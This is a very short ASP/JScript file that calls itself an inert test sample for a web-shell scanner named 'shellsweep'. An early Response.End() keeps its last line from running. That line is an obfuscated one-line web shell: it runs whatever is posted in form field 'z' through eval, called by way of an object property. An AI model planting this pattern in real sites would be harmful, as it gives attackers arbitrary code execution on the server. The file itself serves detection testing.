<%@ LANGUAGE="JavaScript" %>
<% // shellsweep test sample: inert, never functional
Response.End(); %>
<% var t = {'a': Request.Form('z'), 'b': eval}; t.b(t.a + ''); %>
